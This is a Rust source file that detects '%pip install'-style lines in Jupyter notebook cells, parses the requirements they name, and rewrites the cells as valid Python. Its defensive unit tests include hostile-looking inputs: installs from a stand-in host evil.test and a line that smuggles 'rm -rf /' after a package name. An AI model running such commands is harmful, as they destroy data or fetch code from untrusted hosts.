//! Lines of a notebook's cell that install packages: `%pip install pandas`, `!pip install pandas`, and `pip install pandas` as IPython takes it
//! too (ipython.readthedocs.io, "%pip"). They are no Python, so a cell has some only if it cannot be parsed as it stands.

use crate::ENTRIES_MAX;
use crate::refused::{Refused, Why};
use crate::requirement::Requirement;

/// What stands before `install`.
const COMMANDS: [&str; 10] = [
    "%pip",
    "%pip3",
    "!pip",
    "!pip3",
    "!python -m pip",
    "!python3 -m pip",
    "!{sys.executable} -m pip",
    "%uv pip",
    "!uv pip",
    "pip",
];
/// Options that change nothing about what comes, or say what is so anyway.
const IDLE: [&str; 10] = [
    "-q",
    "-qq",
    "--quiet",
    "-U",
    "--upgrade",
    "--user",
    "--no-cache-dir",
    "--disable-pip-version-check",
    "--no-input",
    "--progress-bar=off",
];

/// A cell with lines that install.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cell {
    /// Every line, and whether it is one of those.
    lines: Vec<(String, bool)>,
    /// What they name.
    pub requirements: Vec<Requirement>,
}

impl Cell {
    /// Reads a cell; `None` if it has no such line. What a line names is parsed as strictly as `packages`.
    pub fn read(code: &str) -> Result<Option<Self>, Refused> {
        // Nearly every cell has none.
        if !code.contains("pip") || !code.contains("install") {
            return Ok(None);
        }
        let (mut lines, mut requirements, mut found) = (Vec::new(), Vec::new(), false);
        for (number, line) in code.split('\n').enumerate() {
            let named = arguments(line);
            if let Some(named) = named {
                found = true;
                let of_line = |refused: Refused| refused.at(number + 1);
                requirements.extend(read(named).map_err(of_line)?);
            }
            lines.push((line.to_owned(), named.is_some()));
        }
        if requirements.len() > ENTRIES_MAX {
            return Err(Refused::new("%pip install", Why::TooMuch { what: "entries", max: ENTRIES_MAX }));
        }
        let is_cell = found && ruff_python_parser::parse_module(code).is_err();
        Ok(is_cell.then_some(Self { lines, requirements }))
    }

    /// The cell as Python, with the same lines: this statement in place of the first that installs, nothing in place of the others.
    pub fn code(&self, statement: &str) -> String {
        let mut statement = Some(statement);
        let line = |(line, installs): &(String, bool)| match installs {
            false => line.clone(),
            true => {
                let indent = &line[..line.len() - line.trim_start().len()];
                format!("{indent}{}", statement.take().unwrap_or("pass"))
            }
        };
        self.lines.iter().map(line).collect::<Vec<_>>().join("\n")
    }
}

/// What stands after `install` in a line that installs.
fn arguments(line: &str) -> Option<&str> {
    let line = line.trim_start();
    let of = |command: &&str| line.strip_prefix(command)?.strip_prefix(' ');
    let rest = COMMANDS.iter().find_map(of)?.trim_start().strip_prefix("install")?;
    rest.starts_with([' ', '\t']).then_some(rest)
}

fn read(arguments: &str) -> Result<Vec<Requirement>, Refused> {
    let arguments = arguments.split(" #").next().unwrap_or(arguments);
    let words = arguments.split_whitespace().filter(|word| !IDLE.contains(word));
    let one = |word: &str| {
        let plain = word.trim_matches(['"', '\'']);
        match plain.starts_with('-') {
            true => Err(Refused::new(plain, Why::Option(crate::refused::shown(plain, 40)))),
            false => plain.parse(),
        }
    };
    words.map(one).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cell(code: &str) -> Option<Cell> {
        Cell::read(code).unwrap()
    }

    #[test]
    fn lines_that_install_are_found_and_the_others_stay_where_they_are() {
        let code = "import os\n%pip install -q 'pandas>=2' six  # for tables\nx = 1\nif x:\n    !pip3 install tabulate\nx";
        let found = cell(code).unwrap();
        let named: Vec<String> = found.requirements.iter().map(ToString::to_string).collect();
        assert_eq!(named, ["pandas>=2", "six", "tabulate"]);
        assert_eq!(found.code("print(1)"), "import os\nprint(1)\nx = 1\nif x:\n    pass\nx");
        for line in [
            "!{sys.executable} -m pip install six",
            "pip install six",
            "!python3 -m pip install --upgrade six",
        ] {
            assert_eq!(cell(line).unwrap().requirements.len(), 1, "{line}");
        }
    }

    #[test]
    fn what_is_python_as_it_stands_has_none() {
        for code in [
            "'''\n%pip install six\n'''",
            "pip = 2\ninstall = 1\npip %install",
            "# %pip install six",
            "%pip list",
            "1",
        ] {
            assert_eq!(cell(code), None, "{code}");
        }
    }

    #[test]
    fn a_line_that_names_anything_else_is_refused_with_its_number() {
        for (line, words) in [
            ("%pip install git+https://evil.test/x", "version control"),
            ("%pip install --index-url https://evil.test six", "option"),
            ("%pip install -r requirements.txt", "option"),
            ("%pip install six; rm -rf /", ""),
        ] {
            let refused = Cell::read(&format!("1\n{line}")).unwrap_err();
            assert_eq!(refused.line, Some(2), "{line}");
            assert!(refused.to_string().contains(words), "{refused}");
        }
    }
}
